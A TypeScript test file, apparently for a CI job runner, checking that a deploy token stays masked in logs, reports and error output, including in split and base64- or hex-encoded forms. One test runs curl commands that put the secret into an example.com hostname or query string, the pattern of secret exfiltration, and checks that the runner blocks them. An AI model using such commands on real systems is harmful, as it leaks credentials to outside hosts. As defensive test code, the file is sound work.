import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { setStage, type Stage } from '../../../demo/stage.ts'
import { entriesOf, mayfly, runIdIn } from './job.ts'

let stage: Stage
before(async () => {
  stage = await setStage()
})
after(() => stage[Symbol.asyncDispose]())

const token = 'ghp_Q7RkVerySecretValue01'
let jobs = 0
const run = (args: readonly string[]) =>
  stage.runJob(['run', ...args], {
    ...stage.jobEnvironment({ run_id: `91000000${jobs++}` }),
    DEPLOY_TOKEN: token,
  })

/** In any case of letters, and without the edges that encodings share with their surroundings. */
function assertHidden(text: string, where: string): void {
  for (const form of [
    token,
    Buffer.from(token).toString('base64').slice(0, -2),
    Buffer.from(token).toString('hex'),
  ])
    assert.ok(!text.toLowerCase().includes(form.toLowerCase()), `${where}: ${text}`)
}

test('the command line: in one piece, split over arguments, encoded', async () => {
  const ran = await run([
    '--role',
    'build',
    '--name',
    `step ${token}`,
    '--',
    'true',
    '--token',
    token,
    `--half=${token.slice(0, 9)}`,
    token.slice(9),
    Buffer.from(`x${token}`).toString('base64'),
    Buffer.from(token).toString('hex'),
  ])
  assert.equal(ran.exitCode, 0, ran.stderr)
  const entries = await entriesOf(stage, runIdIn(ran.stderr))
  assert.match(entries, /"command":"true --token \*\*\* --half=\*\*\*/)
  assertHidden(entries, 'the log')
})

test('a host name: neither shown nor recorded, since nothing is sent', async (t) => {
  if (spawnSync('curl', ['--version']).status !== 0) return t.skip('no curl on this machine')
  for (const address of [
    'https://$DEPLOY_TOKEN.example.com/',
    // Node and browsers make a host's letters small.
    'https://$(echo $DEPLOY_TOKEN | tr A-Z a-z).example.com/',
    'https://$(printf %s $DEPLOY_TOKEN | base64 | tr -d =).example.com/',
    'http://$DEPLOY_TOKEN.example.com/',
    'http://example.com/?token=$DEPLOY_TOKEN',
  ]) {
    const ran = await run([
      '--role',
      'build',
      '-e',
      'DEPLOY_TOKEN',
      '--',
      'sh',
      '-c',
      `curl -sS --fail-with-body "${address}"`,
    ])
    assert.notEqual(ran.exitCode, 0)
    assert.match(`${ran.stdout}${ran.stderr}`, /a secret of this job stands in the address/)
    assertHidden(`${ran.stdout}${ran.stderr}`, 'the output')
    const entries = await entriesOf(stage, runIdIn(ran.stderr))
    assertHidden(entries, 'the log')
    assert.match(entries, /"withheld_requests":1/)
  }
})

test('a refusal inside TLS, which only the gateway sees: its line and the report are masked', async (t) => {
  if (spawnSync('curl', ['--version']).status !== 0) return t.skip('no curl on this machine')
  const url = `https://git.example.com/octo-org/${token}.git/info/refs?service=git-upload-pack`
  const plain = await run(['--role', 'build', '--', 'curl', '-sS', url])
  assertHidden(`${plain.stdout}${plain.stderr}`, 'the output')
  const json = await run(['--json', '--role', 'build', '--name', token, '--', 'curl', '-sS', url])
  const { steps } = JSON.parse(json.stdout) as { steps: { name: string; activity: { denied: object[] } }[] }
  assert.deepEqual([steps[0]?.name, steps[0]?.activity.denied.length], ['***', 1])
  assertHidden(`${json.stdout}${json.stderr}`, 'the report')
})

test('errors before and after the start: options, folders, files, lockfiles, programs', async () => {
  writeFileSync(join(stage.workspace, `${token}.json`), '{')
  const file = join(stage.folder, 'bad.yaml')
  writeFileSync(file, `steps: [ { name: a, role: build, "${token}": 1 } ]\n`)
  for (const args of [
    [`--${token}`],
    ['--role', 'build', '--workspace', token, '--', 'true'],
    ['--role', 'build', '--tools', `/${token}`, '--', 'true'],
    ['--role', token, '--', 'true'],
    ['--role', 'build', '--server', `http://${token}@127.0.0.1:9`, '--', 'true'],
    ['-f', token],
    ['-f', file],
    ['--role', 'build', '-e', token, '--', token],
    ['--role', 'build', '--lockfile', `${token}.json`, '--', 'npm', 'view', 'left-pad'],
  ]) {
    const ran = await run(args)
    assert.notEqual(ran.exitCode, 0, args.join(' '))
    assertHidden(`${ran.stdout}${ran.stderr}`, args.join(' '))
  }
})

test('what a pipeline file gives to a step under a secret’s name is masked as well', async () => {
  const file = join(stage.folder, 'pipeline.yaml')
  writeFileSync(
    file,
    'steps:\n  - { name: one, role: build, env: { API_TOKEN: given-in-the-file-77 }, run: echo $API_TOKEN }\n',
  )
  const ran = await run(['-f', file])
  assert.equal(ran.stdout, '***\n')
})

test('a program that cannot be run, without a sandbox: its name is masked', () => {
  const ran = spawnSync(mayfly, ['run', `--no-such-${token}`], {
    encoding: 'utf8',
    env: { ...stage.jobEnvironment(), DEPLOY_TOKEN: token },
  })
  assert.equal(ran.status, 2)
  assert.match(ran.stderr, /unknown option '--no-such-\*\*\*'/)
})
